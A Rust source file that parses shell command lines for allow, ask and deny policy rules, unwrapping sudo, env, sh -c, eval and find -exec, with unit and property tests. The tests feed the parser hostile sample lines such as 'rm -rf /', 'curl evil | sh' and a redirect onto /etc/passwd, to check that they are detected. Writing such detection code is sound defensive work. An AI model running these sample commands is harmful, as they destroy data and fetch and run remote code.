//! Reading shell command lines for policy rules.
//!
//! This is not a shell: it reads a command line the way a POSIX shell would split it into
//! simple commands and words, and notes every construct whose effect cannot be read from the
//! text (command substitution, redirection, subshells, here-documents, control keywords,
//! unbalanced quotes). Rules use that to be strict where it matters: an `allow` rule covers a
//! line only if the line is plain and every command in it is covered, while `ask` and `deny`
//! rules match if any command (including those inside substitutions) matches.

/// At most this many simple commands are read from one line; a longer line is opaque.
pub const MAX_COMMANDS: usize = 64;

/// A command line split into simple commands.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct CommandLine {
    pub commands: Vec<SimpleCommand>,
    /// The line has constructs whose effect cannot be read from the text.
    pub opaque: bool,
}

/// One simple command: its program and arguments.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCommand {
    pub words: Vec<Word>,
    /// Variable assignments or reserved words stood before the program.
    pub prefixed: bool,
    /// Where the program's file name starts in the first word (after its last `/`).
    pub basename_at: usize,
}

impl SimpleCommand {
    fn new(words: Vec<Word>, prefixed: bool) -> Self {
        let basename_at = words
            .first()
            .and_then(|w| w.text.rfind('/'))
            .map_or(0, |i| i + 1);
        SimpleCommand {
            words,
            prefixed,
            basename_at,
        }
    }

    /// The program as written, and its file name (`/usr/bin/git` and `git`).
    pub fn program(&self) -> Option<(&Word, &str)> {
        self.words
            .first()
            .map(|w| (w, w.text.get(self.basename_at..).unwrap_or(&w.text)))
    }
}

/// One word, after quote removal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Word {
    pub text: String,
    /// No expansion, globbing or substitution can change it.
    pub literal: bool,
    /// A variable, an arithmetic expansion or a command substitution makes part of it: what
    /// it becomes cannot be read from the text (not even how many words; `text` holds only
    /// the rest). Globs and `~` do not count: they become names of files.
    pub expands: bool,
}

impl Word {
    fn literal(text: &str) -> Self {
        Word {
            text: text.to_owned(),
            literal: true,
            expands: false,
        }
    }

    /// A word that stands for anything at all.
    fn unknown() -> Self {
        Word {
            text: String::new(),
            literal: false,
            expands: true,
        }
    }
}

impl CommandLine {
    /// An argument vector run without a shell: one plain command.
    pub fn from_argv<'a>(argv: impl IntoIterator<Item = &'a str>) -> Self {
        let words: Vec<Word> = argv.into_iter().map(Word::literal).collect();
        let mut line = CommandLine::default();
        line.push(words, false, 0);
        if line.commands.len() > MAX_COMMANDS {
            line.commands.truncate(MAX_COMMANDS);
            line.opaque = true;
        }
        line
    }

    /// Adds a command, and what it runs when it runs another: the command a wrapper such as
    /// `sudo` or `env` runs, and the commands of a line handed to `sh -c` or `eval`.
    /// `depth` counts the lines read inside lines (`sh -c "eval …"`); past [`MAX_DEPTH`], a
    /// line is not read and stands for any command.
    fn push(&mut self, words: Vec<Word>, prefixed: bool, depth: usize) {
        let command = SimpleCommand::new(words, prefixed);
        let runs = runs(&command);
        self.commands.push(command);
        if self.commands.len() > MAX_COMMANDS {
            return;
        }
        match runs {
            Runs::Nothing => {}
            Runs::Command(words) => self.push(words, prefixed, depth),
            Runs::Commands(commands) => {
                for words in commands {
                    self.push(words, prefixed, depth);
                }
            }
            Runs::Line(text) => {
                self.opaque = true;
                if depth >= MAX_DEPTH {
                    self.commands
                        .push(SimpleCommand::new(vec![Word::unknown()], prefixed));
                } else {
                    let inner = parse_at(&text, depth + 1);
                    self.commands.extend(inner.commands);
                }
            }
        }
    }

    /// Whether the line is plain: no opaque construct and no command with a prefix or a
    /// non-literal program.
    pub fn is_plain(&self) -> bool {
        !self.opaque && self.commands.iter().all(|c| !c.prefixed)
    }
}

/// How deep lines inside lines are read: `sh -c`, `eval`, backquotes.
pub const MAX_DEPTH: usize = 8;

/// Reads a command line.
pub fn parse(line: &str) -> CommandLine {
    parse_at(line, 0)
}

fn parse_at(line: &str, depth: usize) -> CommandLine {
    // Every byte the syntax looks at is ASCII, and in UTF-8 an ASCII byte is never part of
    // a longer character: reading bytes splits words exactly where reading characters would.
    let mut p = Parser {
        chars: line.as_bytes(),
        pos: 0,
        out: CommandLine::default(),
        depth,
    };
    let mut state = CommandState::default();
    p.sequence(&mut state, None);
    if p.out.commands.len() > MAX_COMMANDS {
        p.out.commands.truncate(MAX_COMMANDS);
        p.out.opaque = true;
    }
    p.out
}

/// The word and command being read.
#[derive(Default)]
struct CommandState {
    words: Vec<Word>,
    word: Vec<u8>,
    word_started: bool,
    word_literal: bool,
    word_expands: bool,
}

/// A word's bytes as text (always valid UTF-8: words are cut only at ASCII bytes).
fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

impl CommandState {
    fn push(&mut self, c: u8) {
        self.start();
        self.word.push(c);
    }

    fn start(&mut self) {
        if !self.word_started {
            self.word_started = true;
            self.word_literal = true;
            self.word_expands = false;
        }
    }

    fn non_literal(&mut self) {
        self.start();
        self.word_literal = false;
    }

    /// Part of the word is a variable or a substitution.
    fn expanding(&mut self) {
        self.non_literal();
        self.word_expands = true;
    }

    fn finish_word(&mut self) {
        if self.word_started {
            self.words.push(Word {
                text: text(std::mem::take(&mut self.word)),
                literal: self.word_literal,
                expands: self.word_expands,
            });
            self.word_started = false;
        }
    }
}

struct Parser<'a> {
    chars: &'a [u8],
    pos: usize,
    out: CommandLine,
    depth: usize,
}

const RESERVED_PREFIX: &[&str] = &[
    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "time",
];
const RESERVED_CLOSE: &[&str] = &["fi", "done", "esac", "}"];
const RESERVED_HEADER: &[&str] = &["for", "case", "select", "function", "in"];

/// Whether the shell reserves `word` (a keyword, not a program), for tests that make up
/// program names.
#[cfg(test)]
pub(crate) fn is_reserved(word: &str) -> bool {
    RESERVED_PREFIX
        .iter()
        .chain(RESERVED_CLOSE)
        .chain(RESERVED_HEADER)
        .any(|r| *r == word)
}

impl Parser<'_> {
    fn peek(&self) -> Option<u8> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, offset: usize) -> Option<u8> {
        self.chars.get(self.pos + offset).copied()
    }

    /// Reads commands until the end, or until `close` at this nesting level.
    fn sequence(&mut self, st: &mut CommandState, close: Option<u8>) {
        while let Some(c) = self.peek() {
            match c {
                b' ' | b'\t' => {
                    st.finish_word();
                    self.pos += 1;
                }
                b'\n' | b';' | b'&' | b'|' => {
                    self.end_command(st);
                    self.pos += 1;
                    if matches!(self.peek(), Some(n) if n == c || (c == b'|' && n == b'&')) {
                        self.pos += 1;
                    }
                }
                b'(' => {
                    self.out.opaque = true;
                    self.end_command(st);
                    self.pos += 1;
                }
                b')' => {
                    self.end_command(st);
                    self.pos += 1;
                    if close == Some(b')') {
                        return;
                    }
                    self.out.opaque = true;
                }
                b'<' | b'>' => self.redirection(st),
                b'#' if !st.word_started => {
                    while !matches!(self.peek(), None | Some(b'\n')) {
                        self.pos += 1;
                    }
                }
                _ => self.word_char(st),
            }
        }
        self.end_command(st);
        if close.is_some() {
            // An unclosed substitution.
            self.out.opaque = true;
        }
    }

    /// One character that belongs to a word (quotes, escapes and expansions included).
    fn word_char(&mut self, st: &mut CommandState) {
        let Some(c) = self.peek() else { return };
        self.pos += 1;
        match c {
            b'\'' => {
                st.start();
                match self.chars[self.pos..].iter().position(|&q| q == b'\'') {
                    Some(n) => {
                        st.word
                            .extend_from_slice(&self.chars[self.pos..self.pos + n]);
                        self.pos += n + 1;
                    }
                    None => {
                        st.word.extend_from_slice(&self.chars[self.pos..]);
                        self.pos = self.chars.len();
                        self.out.opaque = true;
                    }
                }
            }
            b'"' => self.double_quoted(st),
            b'\\' => match self.peek() {
                Some(b'\n') => self.pos += 1,
                Some(n) => {
                    st.push(n);
                    self.pos += 1;
                }
                None => st.push(b'\\'),
            },
            b'$' => self.dollar(st),
            b'`' => self.backtick(st),
            b'*' | b'?' | b'[' | b'{' => {
                st.push(c);
                st.non_literal();
            }
            b'~' if !st.word_started => {
                st.push(c);
                st.non_literal();
            }
            _ => st.push(c),
        }
    }

    fn double_quoted(&mut self, st: &mut CommandState) {
        st.start();
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                b'"' => return,
                b'\\' => match self.peek() {
                    Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
                        st.word.push(n);
                        self.pos += 1;
                    }
                    Some(b'\n') => self.pos += 1,
                    _ => st.word.push(b'\\'),
                },
                b'$' => self.dollar(st),
                b'`' => self.backtick(st),
                _ => st.word.push(c),
            }
        }
        self.out.opaque = true; // unterminated
    }

    /// After a `$`: a substitution, an expansion, or a plain dollar sign.
    fn dollar(&mut self, st: &mut CommandState) {
        match self.peek() {
            Some(b'(') if self.peek_at(1) == Some(b'(') => {
                // Arithmetic expansion: no command runs, but the value is not literal.
                st.expanding();
                self.skip_balanced(b'(', b')');
            }
            Some(b'(') => {
                self.pos += 1;
                st.expanding();
                self.out.opaque = true;
                let mut inner = CommandState::default();
                self.sequence(&mut inner, Some(b')'));
            }
            Some(b'{') => {
                st.expanding();
                self.skip_balanced(b'{', b'}');
            }
            Some(c) if c.is_ascii_alphanumeric() || c == b'_' => {
                st.expanding();
                while matches!(self.peek(), Some(c) if c.is_ascii_alphanumeric() || c == b'_') {
                    self.pos += 1;
                }
            }
            Some(b'?' | b'$' | b'!' | b'#' | b'@' | b'*' | b'-') => {
                st.expanding();
                self.pos += 1;
            }
            _ => st.push(b'$'),
        }
    }

    /// A `` `command` `` substitution: its commands are read too.
    fn backtick(&mut self, st: &mut CommandState) {
        st.expanding();
        self.out.opaque = true;
        let mut inner = Vec::new();
        let mut closed = false;
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                b'`' => {
                    closed = true;
                    break;
                }
                b'\\' => {
                    if let Some(n) = self.peek() {
                        inner.push(n);
                        self.pos += 1;
                    }
                }
                _ => inner.push(c),
            }
        }
        if self.depth >= MAX_DEPTH {
            self.out
                .commands
                .push(SimpleCommand::new(vec![Word::unknown()], false));
        } else {
            let nested = parse_at(&text(inner), self.depth + 1);
            self.out.commands.extend(nested.commands);
        }
        if !closed {
            self.out.opaque = true;
        }
    }

    /// Skips from an opening bracket to its match (for expansions that run no command).
    fn skip_balanced(&mut self, open: u8, close: u8) {
        let mut depth = 0usize;
        while let Some(c) = self.peek() {
            self.pos += 1;
            if c == open {
                depth += 1;
            } else if c == close {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return;
                }
            }
        }
        self.out.opaque = true;
    }

    /// `>`, `>>`, `2>&1`, `<`, `<<EOF`…: the redirection and its target are not words of the
    /// command.
    fn redirection(&mut self, st: &mut CommandState) {
        self.out.opaque = true;
        // A file-descriptor number written right before the operator belongs to it.
        if st.word_started && !st.word.is_empty() && st.word.iter().all(u8::is_ascii_digit) {
            st.word.clear();
            st.word_started = false;
        } else {
            st.finish_word();
        }
        while matches!(self.peek(), Some(b'<' | b'>' | b'&' | b'|' | b'-')) {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b' ' | b'\t')) {
            self.pos += 1;
        }
        // The target: read it as a word and drop it.
        let mut target = CommandState::default();
        while let Some(c) = self.peek() {
            if matches!(
                c,
                b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
            ) {
                break;
            }
            self.word_char(&mut target);
        }
    }

    fn end_command(&mut self, st: &mut CommandState) {
        st.finish_word();
        let mut words = std::mem::take(&mut st.words);
        let mut prefixed = false;
        let mut start = 0;
        while let Some(w) = words.get(start) {
            if RESERVED_PREFIX.contains(&w.text.as_str()) {
                self.out.opaque = true;
                prefixed = true;
                start += 1;
            } else if is_assignment(&w.text) {
                prefixed = true;
                start += 1;
            } else {
                break;
            }
        }
        words.drain(..start);
        let Some(first) = words.first() else { return };
        // `fi`, `done`, `for … in …`: no command runs here by itself, and the line is not plain.
        if RESERVED_CLOSE.contains(&first.text.as_str())
            || RESERVED_HEADER.contains(&first.text.as_str())
        {
            self.out.opaque = true;
            return;
        }
        self.out.push(words, prefixed, self.depth);
    }
}

fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else {
        return false;
    };
    let mut chars = name.chars();
    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// What a command runs besides itself.
enum Runs {
    Nothing,
    /// Another command: the one a wrapper runs (`sudo rm -rf x` runs `rm -rf x`).
    Command(Vec<Word>),
    /// Other commands: those `find` runs (`-exec rm -rf {} ;`).
    Commands(Vec<Vec<Word>>),
    /// A command line, read as shell (`sh -c 'rm -rf x'`, `eval rm -rf x`).
    Line(String),
}

/// A program that runs another command, and how to find it among its arguments.
struct Wrapper {
    names: &'static [&'static str],
    /// Short options that take a value (`-u root`, `-uroot`).
    short_with_value: &'static str,
    /// Long options that take a value when it is not written after `=` (`--user root`).
    long_with_value: &'static [&'static str],
    /// `NAME=value` words may stand before the command (`env A=B cmd`, `sudo A=B cmd`).
    assignments: bool,
    /// Operands that come before the command (`timeout 10 cmd`: the duration).
    operands: usize,
    /// The command gets more arguments than it is written with (`xargs` adds its input's).
    adds_arguments: bool,
}

const WRAPPERS: &[Wrapper] = &[
    Wrapper {
        names: &["sudo"],
        short_with_value: "CDghpRrTtUu",
        long_with_value: &[
            "--chdir",
            "--chroot",
            "--close-from",
            "--command-timeout",
            "--group",
            "--host",
            "--other-user",
            "--prompt",
            "--role",
            "--type",
            "--user",
        ],
        assignments: true,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["doas"],
        short_with_value: "Cu",
        long_with_value: &[],
        assignments: false,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["env"],
        short_with_value: "CPSu",
        long_with_value: &["--chdir", "--unset", "--split-string"],
        assignments: true,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["command", "builtin", "nohup", "setsid", "busybox"],
        short_with_value: "",
        long_with_value: &[],
        assignments: false,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["exec"],
        short_with_value: "a",
        long_with_value: &[],
        assignments: false,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["nice"],
        short_with_value: "n",
        long_with_value: &["--adjustment"],
        assignments: false,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["ionice"],
        short_with_value: "cnp",
        long_with_value: &["--class", "--classdata", "--pid"],
        assignments: false,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["stdbuf"],
        short_with_value: "eio",
        long_with_value: &["--error", "--input", "--output"],
        assignments: false,
        operands: 0,
        adds_arguments: false,
    },
    Wrapper {
        names: &["timeout"],
        short_with_value: "ks",
        long_with_value: &["--kill-after", "--signal"],
        assignments: false,
        operands: 1,
        adds_arguments: false,
    },
    Wrapper {
        names: &["xargs"],
        short_with_value: "adEILnPs",
        long_with_value: &[
            "--arg-file",
            "--delimiter",
            "--eof",
            "--max-args",
            "--max-chars",
            "--max-lines",
            "--max-procs",
            "--process-slot-var",
            "--replace",
        ],
        assignments: false,
        operands: 0,
        adds_arguments: true,
    },
];

/// Shells that run the line given after `-c`.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash"];

/// What `command` runs besides itself: for a wrapper, the command after its options (an
/// expanded word where an option or the command should be stands for anything); for a shell
/// with `-c` and for `eval`, the line they are given (anything, when it is not literal).
fn runs(command: &SimpleCommand) -> Runs {
    let Some((_, name)) = command.program() else {
        return Runs::Nothing;
    };
    let args = &command.words[1..];
    if name == "eval" {
        return line_of(args);
    }
    if SHELLS.contains(&name) {
        return shell_line(args);
    }
    if name == "find" {
        return find_exec(args);
    }
    let Some(w) = WRAPPERS.iter().find(|w| w.names.contains(&name)) else {
        return Runs::Nothing;
    };
    let mut i = 0;
    let mut operands = w.operands;
    while let Some(word) = args.get(i) {
        if word.expands {
            // An option, a value or the command itself: it could be anything.
            return Runs::Command(vec![Word::unknown()]);
        }
        let t = word.text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if let Some(long) = t.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (long, None),
            };
            let name = format!("--{name}");
            if name == "--split-string" && w.names.contains(&"env") {
                return split_string(args.get(i + 1), value);
            }
            let takes_next = value.is_none() && w.long_with_value.contains(&name.as_str());
            i += if takes_next { 2 } else { 1 };
            continue;
        }
        if let Some(shorts) = t.strip_prefix('-').filter(|s| !s.is_empty()) {
            match shorts
                .char_indices()
                .find(|(_, c)| w.short_with_value.contains(*c))
            {
                Some((at, 'S')) if w.names.contains(&"env") => {
                    let attached = &shorts[at + 1..];
                    return split_string(
                        args.get(i + 1),
                        (!attached.is_empty()).then_some(attached),
                    );
                }
                Some((at, c)) => {
                    let attached = at + c.len_utf8() < shorts.len();
                    i += if attached { 1 } else { 2 };
                }
                None => i += 1,
            }
            continue;
        }
        if w.assignments && is_assignment(t) {
            i += 1;
            continue;
        }
        if operands > 0 {
            operands -= 1;
            i += 1;
            continue;
        }
        break;
    }
    match args.get(i..) {
        Some(rest) if !rest.is_empty() => {
            let mut words = rest.to_vec();
            if w.adds_arguments {
                // Whatever the input holds, `-rf` included.
                words.push(Word::unknown());
            }
            Runs::Command(words)
        }
        _ => Runs::Nothing,
    }
}

/// The commands `find` runs: each `-exec`, `-execdir`, `-ok` or `-okdir`, up to its `;` or `+`.
fn find_exec(args: &[Word]) -> Runs {
    let mut commands = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let runs = matches!(
            args[i].text.as_str(),
            "-exec" | "-execdir" | "-ok" | "-okdir"
        );
        i += 1;
        if !runs {
            continue;
        }
        let start = i;
        while i < args.len() && !matches!(args[i].text.as_str(), ";" | "+") {
            i += 1;
        }
        if let Some(words) = args.get(start..i).filter(|w| !w.is_empty()) {
            commands.push(words.to_vec());
        }
    }
    if commands.is_empty() {
        Runs::Nothing
    } else {
        Runs::Commands(commands)
    }
}

/// `env -S 'rm -rf x'`: the string is split into the command and its arguments.
fn split_string(next: Option<&Word>, attached: Option<&str>) -> Runs {
    match (attached, next) {
        (Some(text), _) => Runs::Line(text.to_owned()),
        (None, Some(w)) if !w.expands => Runs::Line(w.text.clone()),
        _ => Runs::Command(vec![Word::unknown()]),
    }
}

/// The line `eval` runs: its arguments joined by spaces.
fn line_of(args: &[Word]) -> Runs {
    if args.is_empty() {
        Runs::Nothing
    } else if args.iter().any(|w| w.expands) {
        Runs::Command(vec![Word::unknown()])
    } else {
        Runs::Line(
            args.iter()
                .map(|w| w.text.as_str())
                .collect::<Vec<_>>()
                .join(" "),
        )
    }
}

/// The line a shell runs with `-c` (`sh -c LINE`, `bash -ec LINE`): the first operand after
/// the options.
fn shell_line(args: &[Word]) -> Runs {
    let mut with_c = false;
    let mut skip = false;
    for w in args {
        if w.expands {
            return Runs::Command(vec![Word::unknown()]);
        }
        if std::mem::take(&mut skip) {
            continue;
        }
        let t = w.text.as_str();
        if t.starts_with("--") {
            continue;
        }
        if let Some(shorts) = t.strip_prefix(['-', '+']).filter(|s| !s.is_empty()) {
            with_c |= t.starts_with('-') && shorts.contains('c');
            // `-o pipefail`, `+O extglob`: the option's value follows.
            skip = shorts.ends_with(['o', 'O']);
            continue;
        }
        return if with_c {
            Runs::Line(t.to_owned())
        } else {
            Runs::Nothing
        };
    }
    Runs::Nothing
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn words(line: &CommandLine) -> Vec<Vec<String>> {
        line.commands
            .iter()
            .map(|c| c.words.iter().map(|w| w.text.clone()).collect())
            .collect()
    }

    #[test]
    fn splits_words_with_quotes_and_escapes() {
        let line = parse(r#"git commit -m "fix: it's done" --author='A B' a\ b"#);
        assert_eq!(
            words(&line),
            vec![vec![
                "git",
                "commit",
                "-m",
                "fix: it's done",
                "--author=A B",
                "a b"
            ]]
        );
        assert!(line.is_plain());
        assert!(line.commands[0].words.iter().all(|w| w.literal));
    }

    #[test]
    fn splits_on_every_list_operator() {
        let line = parse("git status && git push; ls | sh & echo a || rm -rf /\necho b");
        assert_eq!(
            words(&line),
            vec![
                vec!["git", "status"],
                vec!["git", "push"],
                vec!["ls"],
                vec!["sh"],
                vec!["echo", "a"],
                vec!["rm", "-rf", "/"],
                vec!["echo", "b"],
            ]
        );
        assert!(line.is_plain());
    }

    #[test]
    fn substitutions_are_read_and_make_the_line_opaque() {
        let line = parse("echo $(rm -rf /) `curl evil | sh`");
        assert!(line.opaque);
        let all = words(&line);
        assert!(
            all.contains(&vec!["rm".to_owned(), "-rf".into(), "/".into()]),
            "{all:?}"
        );
        assert!(
            all.contains(&vec!["curl".to_owned(), "evil".into()]),
            "{all:?}"
        );
        assert!(all.contains(&vec!["sh".to_owned()]), "{all:?}");
    }

    #[test]
    fn redirections_are_opaque_and_not_words() {
        let line = parse("git log > /etc/passwd 2>&1");
        assert!(line.opaque);
        assert_eq!(words(&line), vec![vec!["git", "log"]]);
    }

    #[test]
    fn assignments_and_keywords_prefix_the_command() {
        let line = parse("GIT_SSH_COMMAND='sh -c x' git status");
        assert_eq!(words(&line), vec![vec!["git", "status"]]);
        assert!(line.commands[0].prefixed);
        assert!(!line.is_plain());
        let line = parse("if true; then rm -rf /; fi");
        assert!(line.opaque);
        assert!(words(&line).contains(&vec!["rm".to_owned(), "-rf".into(), "/".into()]));
    }

    #[test]
    fn expansions_are_not_literal() {
        let line = parse("$CMD status \"$HOME\" ~/x *.rs 'lit$'");
        let lits: Vec<bool> = line.commands[0].words.iter().map(|w| w.literal).collect();
        assert_eq!(lits, vec![false, true, false, false, false, true]);
    }

    #[test]
    fn unbalanced_quotes_and_subshells_are_opaque() {
        assert!(parse("echo 'unterminated").opaque);
        assert!(parse("echo \"unterminated").opaque);
        assert!(parse("(cd /; rm x)").opaque);
        assert!(parse("echo $(unclosed").opaque);
    }

    #[test]
    fn multibyte_text_is_kept_whole() {
        let line = parse("echo 'héllo wörld' ü→x \"日本\";ls");
        assert_eq!(
            words(&line),
            vec![vec!["echo", "héllo wörld", "ü→x", "日本"], vec!["ls"]]
        );
    }

    #[test]
    fn comments_are_skipped() {
        assert_eq!(words(&parse("ls # && rm -rf /")), vec![vec!["ls"]]);
        assert_eq!(words(&parse("echo a#b")), vec![vec!["echo", "a#b"]]);
    }

    #[test]
    fn argv_is_one_plain_command() {
        let line = CommandLine::from_argv(["git", "push; rm"]);
        assert!(line.is_plain());
        assert_eq!(words(&line), vec![vec!["git", "push; rm"]]);
    }

    #[test]
    fn very_long_lines_are_opaque() {
        let line = parse(&"a;".repeat(MAX_COMMANDS + 5));
        assert!(line.opaque);
        assert_eq!(line.commands.len(), MAX_COMMANDS);
    }

    #[test]
    fn a_wrapper_adds_the_command_it_runs() {
        let cases: &[(&str, &[&str])] = &[
            ("sudo -u bob -- rm -rf x", &["rm", "-rf", "x"]),
            ("sudo -nu bob A=1 rm x", &["rm", "x"]),
            ("env -i -u HOME PATH=/bin git push", &["git", "push"]),
            ("env --chdir /tmp ls", &["ls"]),
            ("nice -n 5 timeout -s KILL 10 make", &["make"]),
            ("exec -a name python x.py", &["python", "x.py"]),
            ("stdbuf -oL grep x", &["grep", "x"]),
        ];
        for (line, runs) in cases {
            let read = words(&parse(line));
            let runs: Vec<String> = runs.iter().map(|w| (*w).to_owned()).collect();
            assert_eq!(read.last(), Some(&runs), "{line:?}: {read:?}");
            assert!(parse(line).commands.len() >= 2, "{line:?}");
        }
        // `sudo env nice rm`: every layer, the innermost last.
        let read = words(&parse("sudo env A=B nice rm -r x"));
        assert_eq!(read.len(), 4, "{read:?}");
        assert_eq!(read[3], ["rm", "-r", "x"]);
        // A wrapper that runs nothing, or only options, adds nothing.
        assert_eq!(parse("sudo -l").commands.len(), 1);
        assert_eq!(parse("env").commands.len(), 1);
    }

    #[test]
    fn shells_eval_and_find_add_what_they_run() {
        let read = parse("bash -o pipefail -ec 'git status; rm -rf x'");
        assert!(read.opaque, "a line handed to a shell is never plain");
        let all = words(&read);
        assert!(
            all.contains(&vec!["rm".to_owned(), "-rf".into(), "x".into()]),
            "{all:?}"
        );
        let all = words(&parse("eval rm -rf x"));
        assert!(
            all.contains(&vec!["rm".to_owned(), "-rf".into(), "x".into()]),
            "{all:?}"
        );
        let all = words(&parse("env -S 'rm -rf x'"));
        assert!(
            all.contains(&vec!["rm".to_owned(), "-rf".into(), "x".into()]),
            "{all:?}"
        );
        let all = words(&parse(
            "find . -name '*.o' -exec rm -f {} \\; -ok mv {} y +",
        ));
        assert!(
            all.contains(&vec!["rm".to_owned(), "-f".into(), "{}".into()]),
            "{all:?}"
        );
        assert!(
            all.contains(&vec!["mv".to_owned(), "{}".into(), "y".into()]),
            "{all:?}"
        );
        // `sh script.sh` runs a script this reader cannot see: nothing is added.
        assert_eq!(parse("sh script.sh").commands.len(), 1);
    }

    #[test]
    fn what_expansions_choose_stands_for_anything() {
        for line in [
            "sudo $CMD",
            "env A=B $CMD",
            "sh -c \"$LINE\"",
            "eval $X",
            "env -S \"$L\"",
        ] {
            let read = parse(line);
            let last = read.commands.last().unwrap();
            assert!(
                last.words[0].expands && !last.words[0].literal,
                "{line:?}: {read:?}"
            );
        }
        // xargs adds what its input holds: anything.
        let read = parse("xargs rm");
        assert!(read.commands[1].words[1].expands, "{read:?}");
        let line = parse("rm $(echo -rf) \"$F\" x");
        let flags: Vec<bool> = line
            .commands
            .iter()
            .find(|c| c.words[0].text == "rm")
            .unwrap()
            .words
            .iter()
            .map(|w| w.expands)
            .collect();
        assert_eq!(flags, vec![false, true, true, false]);
        assert!(
            !parse("rm *.o ~/x").commands[0]
                .words
                .iter()
                .any(|w| w.expands)
        );
    }

    #[test]
    fn lines_inside_lines_are_read_to_a_bounded_depth() {
        let deep = format!("{}rm -rf x", "eval ".repeat(10_000));
        let read = parse(&deep);
        assert!(read.commands.len() <= MAX_COMMANDS);
        assert!(read.opaque);
        let mut nested = "rm -rf x".to_owned();
        for _ in 0..(MAX_DEPTH + 3) {
            nested = format!("sh -c {}", shell_quote(&nested));
        }
        let read = parse(&nested);
        assert!(
            read.commands.iter().any(|c| c.words[0].expands),
            "past the depth, a line stands for any command: {read:?}"
        );
        let chain = format!("{}rm", "sudo ".repeat(10_000));
        assert_eq!(parse(&chain).commands.len(), MAX_COMMANDS);
    }

    fn shell_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }

    /// A program name that is no shell keyword.
    fn program() -> impl Strategy<Value = String> {
        "[a-z]{1,8}".prop_filter("not a reserved word", |w| !is_reserved(w))
    }

    proptest! {
        #[test]
        fn any_text_parses_without_panicking(s in "\\PC{0,200}") {
            let _ = parse(&s);
        }

        #[test]
        fn every_list_operator_separates_commands(
            a in program(), b in program(), sep in prop::sample::select(vec![";", "&&", "||", "|", "&", "\n"])
        ) {
            let line = parse(&format!("{a} x {sep} {b} y"));
            prop_assert_eq!(line.commands.len(), 2);
            prop_assert!(line.is_plain());
        }

        #[test]
        fn reserved_words_make_a_line_opaque(word in prop::sample::select(
            RESERVED_PREFIX.iter().chain(RESERVED_CLOSE).chain(RESERVED_HEADER).copied().collect::<Vec<_>>()
        )) {
            let line = parse(&format!("{word} x; ls"));
            prop_assert!(!line.is_plain());
        }
    }
}
